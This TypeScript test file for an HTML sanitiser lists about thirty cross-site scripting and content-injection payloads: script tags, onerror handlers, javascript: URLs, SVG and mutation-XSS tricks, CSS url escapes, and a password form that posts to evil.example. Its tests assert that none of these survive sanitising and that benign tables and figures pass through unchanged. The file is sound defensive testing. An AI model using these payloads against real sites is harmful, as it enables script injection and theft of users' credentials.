import { assertEquals, assertStringIncludes } from "@std/assert";
import type { Root } from "hast";
import rehypeParse from "rehype-parse";
import rehypeStringify from "rehype-stringify";
import { unified } from "unified";
import { prefixIds, sanitize } from "../../handouts/sanitize.ts";

function clean(html: string, change: (tree: Root) => void = sanitize): string {
  const tree = unified().use(rehypeParse, { fragment: true }).parse(html) as Root;
  change(tree);
  return unified().use(rehypeStringify).stringify(tree);
}

const hostile = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<svg><use href="http://evil.example/x.svg#a"/></svg>',
  '<svg><image href="http://evil.example/x.png"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=http://evil.example></object><embed src=http://evil.example>",
  '<form action="http://evil.example"><input name=password><button>go</button></form>',
  '<link rel=stylesheet href="http://evil.example/x.css"><base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  "<style>body{background:url(http://evil.example)}</style>",
  '<svg><style>@import "http://evil.example";</style></svg>',
  "<svg><style>a{} } body{background:url(http://evil.example)} b{</style></svg>",
  '<p style="background:url(http://evil.example)">x</p>',
  '<p style="background:u\\72l(http://evil.example)">x</p>',
  '<div style="position:fixed;inset:0">over the page</div>',
  '<svg><rect fill="url(http://evil.example#a)"/></svg>',
  '<img srcset="http://evil.example/x.png 2x" src="http://evil.example/x.png">',
  '<video src="http://evil.example" poster="http://evil.example"></video>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<!--><img src=x onerror=alert(1)>-->",
];
for (const html of hostile) {
  Deno.test(`nothing runs, is fetched or lies over the page after sanitising ${html}`, () => {
    const left = clean(html);
    assertEquals(
      /script|onerror|onload|evil|javascript|position|@import|iframe|<form|<input|srcset/i.exec(left)?.[0],
      undefined,
      left,
    );
  });
}

Deno.test("tables, figures and pictures in the text stay as they are", () => {
  const table =
    '<table><thead><tr><th style="text-align: right">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>';
  assertEquals(clean(table), table);
  const svg =
    '<svg viewBox="0 0 10 10"><path d="M0,0L5,5" stroke="currentColor"></path><image href="data:image/png;base64,AA=="></image></svg>';
  assertEquals(clean(svg), svg);
  assertEquals(
    clean('<img src="data:image/png;base64,AA==" alt="a">'),
    '<img src="data:image/png;base64,AA==" alt="a">',
  );
});

Deno.test("the style sheet of an Observable Plot figure holds for that figure only", () => {
  assertStringIncludes(
    clean('<svg class="plot"><style>:where(.plot){color:red}</style></svg>'),
    "<style>@scope{:where(.plot){color:red}}</style>",
  );
});

Deno.test("ids of an output get a prefix wherever they are referred to, and addresses of the page stay", () => {
  const html =
    '<svg><clipPath id="c"></clipPath><g clip-path="url(#c)"></g><use href="#c"></use></svg><a href="#other">x</a>';
  assertEquals(
    clean(html, (tree) => prefixIds(tree, "o1-")),
    '<svg><clipPath id="o1-c"></clipPath><g clip-path="url(#o1-c)"></g><use href="#o1-c"></use></svg><a href="#other">x</a>',
  );
});
